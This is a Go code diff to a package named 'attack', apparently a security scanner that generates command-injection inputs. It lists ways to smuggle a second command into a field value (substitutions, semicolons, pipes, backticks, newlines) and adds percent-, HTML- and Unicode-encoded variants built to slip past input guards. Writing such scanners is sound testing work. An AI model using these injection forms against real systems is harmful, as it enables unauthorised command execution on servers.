@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"fmt"
 	"path"
 	"strings"
 
@@ -23,10 +24,13 @@ var plain = lazyregexp.New(`^[\w./:@%+=, -]+`)
 // forURL matches names of fields for URLs.
 var forURL = lazyregexp.New(`(?i)(?:ur[il]|link|href|endpoint|website)s?(?:\[0\])?$`)
 
+// anyQuotes runs a command in every kind of quotes.
+const anyQuotes = "$(!)';!;:'"
+
 // commands are the ways to put a command into a value, the likeliest first. The first works
 // in every kind of quotes, the others evade guards against some.
 var commands = []commandForm{
-	written("in a substitution and behind a single quote", "{}$(!)';!;:'").everywhere(),
+	written("in a substitution and behind a single quote", "{}"+anyQuotes).everywhere(),
 	written("on a line of its own", "{}\n!\n").everywhere(),
 	{form: form{name: "as the whole value", control: true, write: func(f field, m inputs.Mark, _ int) string { return f.before + f.command(m) + f.behind }}, any: true},
 	written("behind a semicolon", "{};!;").anyType(),
@@ -65,7 +69,9 @@ var commands = []commandForm{
 	slashless("on a line of its own, without a slash", "{}\n!\n"),
 	wordy("behind a semicolon, without a slash or a dollar sign", "{};!;"),
 	wordy("behind a pipe, without a slash or a dollar sign", "{}|!"),
-	written("behind an encoded semicolon", "{}%3B!%3B"),
+	coded("percent-encoded", percentEncoded),
+	coded("in references of HTML", func(c rune) string { return fmt.Sprintf("&#%d;", c) }),
+	coded("in escapes of Unicode", func(c rune) string { return fmt.Sprintf(`\u%04x`, c) }),
 	written("on a line of its own, encoded", "{}%0A!%0A"),
 	written("before the value, in a substitution", "$(!){}"),
 	written("before the value, between backticks", "`!`{}"),
@@ -78,6 +84,23 @@ var commands = []commandForm{
 
 // written is a form with a pattern, in which "{}" stands for the honest value, "!" for the command.
 func written(name, pattern string) commandForm { return patterned(name, pattern, field.command) }
+
+// coded is the first form with its punctuation encoded, for servers that decode a value behind their guard.
+func coded(name string, encode func(rune) string) commandForm {
+	return commandForm{form: form{name: "in a substitution and behind a single quote, " + name, write: func(f field, m inputs.Mark, _ int) string {
+		return f.before + f.honest(m) + punctuation(strings.ReplaceAll(anyQuotes, "!", f.command(m)), encode) + f.behind
+	}}}
+}
+
+// percentEncoded encodes a character as in URLs.
+func percentEncoded(c rune) string { return fmt.Sprintf("%%%02X", c) }
+
+// punctuation encodes what is neither a letter nor a digit in a text of ASCII.
+func punctuation(text string, encode func(rune) string) string {
+	return unsafe.ReplaceAllStringFunc(text, func(c string) string { return encode(rune(c[0])) })
+}
+
+var unsafe = lazyregexp.New(`[^A-Za-z0-9-]`)
 
 // slashless is written with a command without slashes and blanks.
 func slashless(name, pattern string) commandForm {
